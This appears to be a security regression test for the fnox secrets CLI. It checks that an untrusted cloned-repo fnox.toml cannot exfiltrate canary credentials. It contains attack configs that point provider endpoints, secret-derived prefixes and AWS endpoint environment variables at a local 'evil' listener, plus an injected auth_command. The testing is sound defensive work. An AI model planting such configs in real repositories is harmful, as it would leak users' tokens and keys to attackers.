/**
 * The exfiltration attack of the trust-boundary issue, black-box: a cloned repository's untrusted
 * fnox.toml points a provider at a loopback listener of the "attacker" and feeds it the user's
 * GITHUB_TOKEN, or pollutes the environment the AWS SDK reads. The user's token, AWS key id and
 * session token must never reach the listener: not on `cd` with the hook, not on get/exec/export.
 * Positive controls: a trusted config against the AWS emulator resolves (get, exec, export), and
 * the same attack config, once trusted, does reach the listener (so the listener would see it).
 * Also: an untrusted file's auth_command is never offered; a trusted one's is.
 */
import { execFileSync } from 'node:child_process';
import { existsSync, mkdirSync, rmSync, writeFileSync } from 'node:fs';
import { createServer, type IncomingHttpHeaders, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import { fileURLToPath, pathToFileURL } from 'node:url';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { FNOX_BIN, sandbox, type Sandbox } from '@fnox/test-kit';
import { startShell } from '../shell/driver.js';

const packages = fileURLToPath(new URL('../../../../packages/', import.meta.url));
const emulatorEntry = join(packages, 'aws-emulator', 'dist', 'index.js');
const smPlugin = join(packages, 'provider-secrets-manager');
const kmsPlugin = join(packages, 'provider-aws-kms');
const authPlugin = fileURLToPath(new URL('../fixtures/provider-auth-fixture', import.meta.url));
const usable = existsSync(emulatorEntry) && existsSync(join(smPlugin, 'dist', 'provider.js')) && existsSync(join(kmsPlugin, 'dist', 'provider.js'));
if (!usable && process.env.CI) throw new Error('aws-emulator / AWS providers are not built');

const GITHUB_TOKEN = 'ghp_CANARYtoken0000000000000000000000';
const KEY_ID = 'AKIACANARYKEYID00000';
const SESSION_TOKEN = 'CANARYsessionTOKEN';
const CANARIES = [GITHUB_TOKEN, KEY_ID, SESSION_TOKEN];

interface Seen {
  readonly url: string;
  readonly headers: IncomingHttpHeaders;
  readonly body: string;
}

/** The attacker's listener: records every request, answers 500. */
async function listener(): Promise<{ server: Server; url: string; seen: Seen[] }> {
  const seen: Seen[] = [];
  const server = createServer((req, res) => {
    let body = '';
    req.setEncoding('utf8').on('data', (chunk: string) => (body += chunk));
    req.on('end', () => {
      seen.push({ url: req.url ?? '', headers: req.headers, body });
      res.writeHead(500, { 'content-type': 'application/x-amz-json-1.1' }).end('{"__type":"InternalFailure"}');
    });
  });
  await new Promise<void>((done) => server.listen(0, '127.0.0.1', done));
  return { server, url: `http://127.0.0.1:${(server.address() as AddressInfo).port}/`, seen };
}

const leaked = (seen: readonly Seen[]) => CANARIES.filter((canary) => JSON.stringify(seen).includes(canary));

describe.skipIf(!usable)('exfiltration through an untrusted fnox.toml', () => {
  let box: Sandbox;
  let emulator: { url: string; stop(): Promise<void> };
  let evil: Awaited<ReturnType<typeof listener>>;
  /** The user's environment: AWS pointed at the emulator (their own endpoint), plus the canaries for the attack runs. */
  let userEnv: NodeJS.ProcessEnv;
  let attackEnv: NodeJS.ProcessEnv;
  let attack: string;
  let good: string;

  beforeAll(async () => {
    const mod = (await import(pathToFileURL(emulatorEntry).href)) as {
      start(): Promise<{ url: string; stop(): Promise<void> }>;
      hermeticAwsEnv(url: string, options: { base: NodeJS.ProcessEnv }): Record<string, string>;
    };
    emulator = await mod.start();
    evil = await listener();
    box = sandbox({ trusted: false });
    userEnv = mod.hermeticAwsEnv(emulator.url, { base: {} });
    // The attack runs carry the canaries; only the generic endpoint is set, so a service-specific one would win.
    attackEnv = {
      ...userEnv,
      GITHUB_TOKEN,
      AWS_ACCESS_KEY_ID: KEY_ID,
      AWS_SESSION_TOKEN: SESSION_TOKEN,
      AWS_ENDPOINT_URL_SECRETS_MANAGER: '',
      AWS_ENDPOINT_URL_KMS: '',
    };
    for (const plugin of [smPlugin, kmsPlugin, authPlugin]) {
      const linked = await box.run(['plugins', 'link', plugin, '--no-install'], { timeoutMs: 120_000 });
      expect(linked.code, linked.stderr).toBe(0);
    }
    attack = join(box.home, 'cloned-repo');
    good = join(box.home, 'my-app');
    mkdirSync(attack);
    mkdirSync(good);
  }, 240_000);

  afterAll(async () => {
    await emulator?.stop();
    await new Promise((done) => evil?.server.close(done));
    box?.cleanup();
  });

  const ISSUE_ATTACK = () => `root = true

[providers.sm]
type = "aws-sm"
region = "us-east-1"
endpoint = "${evil.url}"
prefix = { secret = "GITHUB_TOKEN" }

[providers.kms]
type = "aws-kms"
key_id = "alias/x"
region = "us-east-1"
endpoint = "${evil.url}"

[secrets]
GITHUB_TOKEN = { env = false }
X = { provider = "sm", value = "x" }
Y = { provider = "kms", value = "AQIDBA==" }
`;

  const explicitRuns = [['get', 'X'], ['get', 'Y'], ['exec', '--', process.execPath, '-e', '0'], ['export']];

  it('positive control: a trusted config resolves from its endpoint (get, exec, export)', { timeout: 120_000 }, async () => {
    writeFileSync(
      join(good, 'fnox.toml'),
      `root = true\n\n[providers.sm]\ntype = "aws-sm"\nregion = "us-east-1"\nendpoint = "${emulator.url}"\nprefix = "app/"\n\n[secrets]\n`,
    );
    expect((await box.run(['trust'], { cwd: good })).code).toBe(0);
    const set = await box.run(['set', 'DB', 'postgres://db-value', '-p', 'sm'], { cwd: good, env: userEnv });
    expect(set.code, set.stderr).toBe(0);
    expect((await box.run(['get', 'DB'], { cwd: good, env: userEnv })).stdout).toBe('postgres://db-value\n');
    const exec = await box.run(['exec', '--', process.execPath, '-e', 'process.stdout.write(process.env.DB)'], { cwd: good, env: userEnv });
    expect(exec.stdout).toBe('postgres://db-value');
    expect((await box.run(['export'], { cwd: good, env: userEnv })).stdout).toContain('DB=');
  });

  it.each(explicitRuns)("an untrusted endpoint/prefix never receives the user's credentials: fnox %s", { timeout: 60_000 }, async (...args) => {
    writeFileSync(join(attack, 'fnox.toml'), ISSUE_ATTACK());
    evil.seen.length = 0;
    const result = await box.run(args, { cwd: attack, env: attackEnv });
    expect(evil.seen).toEqual([]);
    // get fails; exec and export report each secret (if_missing defaults to warn in batch mode).
    if (args[0] === 'get') expect(result.code).toBe(1);
    const file = join(attack, 'fnox.toml');
    expect(result.stderr).toContain(
      `Provider '${args[1] === 'Y' ? 'kms' : 'sm'}' in ${file} sets 'endpoint', which decides where your credentials or data go, and the file is not trusted: review it, then run \`fnox trust ${file}\``,
    );
    expect(leaked([{ url: '', headers: {}, body: result.stdout + result.stderr }])).toEqual([]);
  });

  it('an untrusted { secret = ... } field is refused even without an endpoint', { timeout: 60_000 }, async () => {
    writeFileSync(
      join(attack, 'fnox.toml'),
      'root = true\n\n[providers.sm]\ntype = "aws-sm"\nregion = "us-east-1"\nprefix = { secret = "GITHUB_TOKEN" }\n\n[secrets]\nGITHUB_TOKEN = { env = false }\nX = { provider = "sm", value = "x" }\n',
    );
    const result = await box.run(['get', 'X'], { cwd: attack, env: attackEnv });
    expect(result.code).toBe(1);
    expect(result.stderr).toContain(`sets 'prefix', which takes its value from a secret or your environment ({ secret = ... })`);
  });

  it('an untrusted secret cannot aim the SDK through the environment (AWS_ENDPOINT_URL_SECRETS_MANAGER)', { timeout: 60_000 }, async () => {
    writeFileSync(
      join(attack, 'fnox.toml'),
      `root = true\n\n[providers.sm]\ntype = "aws-sm"\nregion = "us-east-1"\n\n[secrets]\nAWS_ENDPOINT_URL_SECRETS_MANAGER = { default = "${evil.url}" }\nX = { provider = "sm", value = "x", default = "\${AWS_ENDPOINT_URL_SECRETS_MANAGER}", if_missing = "ignore" }\n`,
    );
    evil.seen.length = 0;
    for (const args of [['exec', '--', process.execPath, '-e', '0'], ['export']]) await box.run(args, { cwd: attack, env: attackEnv });
    expect(evil.seen).toEqual([]);
  });

  it("an untrusted file cannot feed a trusted provider's { secret = ... } field (it would aim the user's provider)", { timeout: 120_000 }, async () => {
    // The user's own (trusted) global config takes the endpoint from their environment; the cloned
    // repository defines a secret of that name, which would otherwise win over the environment.
    const globalConfig = join(box.env.XDG_CONFIG_HOME!, 'fnox', 'config.toml');
    mkdirSync(join(globalConfig, '..'), { recursive: true });
    writeFileSync(globalConfig, '[providers.corp]\ntype = "aws-sm"\nregion = "us-east-1"\nendpoint = { secret = "CORP_SM_ENDPOINT" }\n');
    const env = { ...attackEnv, CORP_SM_ENDPOINT: emulator.url, AWS_MAX_ATTEMPTS: '1' };
    const file = join(attack, 'fnox.toml');
    try {
      // Positive control: without the repository's definition the field takes the user's endpoint
      // (the emulator, reached only through it, answers that secret "x" does not exist).
      writeFileSync(file, 'root = true\n\n[secrets]\nX = { provider = "corp", value = "x" }\n');
      evil.seen.length = 0;
      const viaField = { ...userEnv, AWS_ENDPOINT_URL: '', AWS_ENDPOINT_URL_SECRETS_MANAGER: '', CORP_SM_ENDPOINT: emulator.url, AWS_MAX_ATTEMPTS: '1' };
      const own = await box.run(['get', 'X'], { cwd: attack, env: viaField });
      expect(own.stderr).toMatch(/ResourceNotFound|not found/i);
      expect(evil.seen).toEqual([]);

      writeFileSync(file, `root = true\n\n[secrets]\nCORP_SM_ENDPOINT = { default = "${evil.url}" }\nX = { provider = "corp", value = "x" }\n`);
      for (const args of [['get', 'X'], ['exec', '--', process.execPath, '-e', '0'], ['export']]) {
        const result = await box.run(args, { cwd: attack, env });
        expect(result.stderr).toContain(
          `Provider 'corp' takes 'endpoint' from secret 'CORP_SM_ENDPOINT', which ${file} defines, and that file is not trusted: review it, then run \`fnox trust ${file}\``,
        );
        if (args[0] === 'get') expect(result.code).toBe(1);
      }
      expect(evil.seen).toEqual([]);

      // Control: once the repository is trusted its definition counts, and the listener sees the request.
      await box.run(['get', 'X'], { cwd: attack, env: { ...env, FNOX_TRUSTED_CONFIG_PATHS: attack } });
      expect(evil.seen.length).toBeGreaterThan(0);
    } finally {
      rmSync(globalConfig, { force: true });
    }
  });

  it("an untrusted file cannot reach the providers' environment through a trusted default's ${NAME}", { timeout: 120_000 }, async () => {
    const globalConfig = join(box.env.XDG_CONFIG_HOME!, 'fnox', 'config.toml');
    mkdirSync(join(globalConfig, '..'), { recursive: true });
    // The user's own config aims the SDK through a template; the cloned repository redefines the name it uses.
    writeFileSync(
      globalConfig,
      `[providers.corp]\ntype = "aws-sm"\nregion = "us-east-1"\n\n[secrets]\nSM_URL = { default = "${emulator.url}" }\nAWS_ENDPOINT_URL_SECRETS_MANAGER = { default = "\${SM_URL}" }\n`,
    );
    const file = join(attack, 'fnox.toml');
    const env = { ...attackEnv, AWS_MAX_ATTEMPTS: '1' };
    try {
      // X's default orders it after the endpoint, so the provider is built with the environment it set.
      writeFileSync(
        file,
        `root = true\n\n[secrets]\nSM_URL = { default = "${evil.url}" }\nX = { provider = "corp", value = "x", default = "\${AWS_ENDPOINT_URL_SECRETS_MANAGER}", if_missing = "ignore" }\n`,
      );
      evil.seen.length = 0;
      for (const args of [['exec', '--', process.execPath, '-e', '0'], ['export']]) await box.run(args, { cwd: attack, env });
      expect(evil.seen).toEqual([]);
      // Control: trusted, the repository's definition counts and the listener is reached.
      await box.run(['export'], { cwd: attack, env: { ...env, FNOX_TRUSTED_CONFIG_PATHS: attack } });
      expect(evil.seen.length).toBeGreaterThan(0);
    } finally {
      rmSync(globalConfig, { force: true });
    }
  });

  it('the hook sends nothing on cd into the cloned repo (bash)', { timeout: 180_000 }, async () => {
    writeFileSync(join(attack, 'fnox.toml'), ISSUE_ATTACK());
    evil.seen.length = 0;
    const sh = await startShell(box, 'bash', { names: ['X', 'Y', 'GITHUB_TOKEN'], env: attackEnv });
    try {
      const dump = await sh.step(`cd ${attack}`);
      expect([dump.has('X'), dump.has('Y')]).toEqual([false, false]);
      expect(sh.screen()).toContain('is not trusted; its secrets were not loaded');
      await sh.step('cd ..');
      await sh.step(`cd ${attack}`);
    } finally {
      await sh.stop();
    }
    expect(evil.seen).toEqual([]);
  });

  it('control: the same attack config, once trusted, does reach the listener (the test can see a leak)', { timeout: 60_000 }, async () => {
    writeFileSync(join(attack, 'fnox.toml'), ISSUE_ATTACK());
    evil.seen.length = 0;
    const env = { ...attackEnv, FNOX_TRUSTED_CONFIG_PATHS: attack, AWS_MAX_ATTEMPTS: '1' };
    await box.run(['get', 'X'], { cwd: attack, env });
    expect(evil.seen.length).toBeGreaterThan(0);
    expect(leaked(evil.seen)).toEqual(expect.arrayContaining([GITHUB_TOKEN, KEY_ID, SESSION_TOKEN]));
  });
});

describe('auth_command from an untrusted file', () => {
  it('is never offered; once trusted it is', { timeout: 300_000 }, async () => {
    const box = sandbox({ trusted: false });
    const evilMarker = join(box.home, 'repo-command-ran');
    const authMarker = join(box.home, 'logged-in');
    const env: NodeJS.ProcessEnv = { ...box.env, TERM: 'xterm', FNOX_TEST_AUTH_MARKER: authMarker };
    const socket = join(box.home, 'tmux.sock');
    const tmux = (...args: string[]) => execFileSync('/usr/bin/tmux', ['-S', socket, ...args], { env, encoding: 'utf8' });
    try {
      expect((await box.run(['plugins', 'link', authPlugin, '--no-install'], { env })).code).toBe(0);
      writeFileSync(
        join(box.project, 'fnox.toml'),
        `[providers.sso]\ntype = "auth-fixture"\nauth_command = "touch ${evilMarker}"\n\n[secrets]\nK = { provider = "sso", value = "k" }\n`,
      );
      const ask = async (session: string): Promise<string> => {
        const script = `"${process.execPath}" "${FNOX_BIN}" get K; echo "[exit=$?]"; exec sleep 600`;
        tmux('-f', '/dev/null', 'new-session', '-d', '-x', '200', '-y', '50', '-s', session, '-c', box.project, '/bin/sh', '-c', script);
        for (const start = Date.now(); Date.now() - start < 90_000; await new Promise((r) => setTimeout(r, 100))) {
          const screen = tmux('capture-pane', '-p', '-J', '-t', session);
          if (screen.includes('to authenticate? [y/N]')) return screen;
        }
        throw new Error(`no prompt: ${tmux('capture-pane', '-p', '-J', '-t', session)}`);
      };
      const untrusted = await ask('u');
      expect(untrusted).toContain('Run `echo logging in; touch "$FNOX_TEST_AUTH_MARKER"` to authenticate? [y/N]');
      expect(untrusted).not.toContain(evilMarker);
      tmux('send-keys', '-t', 'u', '-l', 'y');
      tmux('send-keys', '-t', 'u', 'Enter');
      for (const start = Date.now(); !tmux('capture-pane', '-p', '-J', '-t', 'u').includes('[exit=') && Date.now() - start < 90_000;)
        await new Promise((r) => setTimeout(r, 100));
      expect(existsSync(evilMarker)).toBe(false);
      expect(existsSync(authMarker)).toBe(true); // the provider's own command ran

      // Positive control: after `fnox trust`, the file's auth_command is what is offered (declined here).
      execFileSync('rm', ['-f', authMarker]);
      expect((await box.run(['trust'], { env })).code).toBe(0);
      const trusted = await ask('t');
      expect(trusted).toContain(`Run \`touch ${evilMarker}\` to authenticate? [y/N]`);
      tmux('send-keys', '-t', 't', '-l', 'n');
      tmux('send-keys', '-t', 't', 'Enter');
    } finally {
      try {
        tmux('kill-server');
      } catch {
        // already gone
      }
      box.cleanup();
    }
    expect(existsSync(evilMarker)).toBe(false);
  });
});
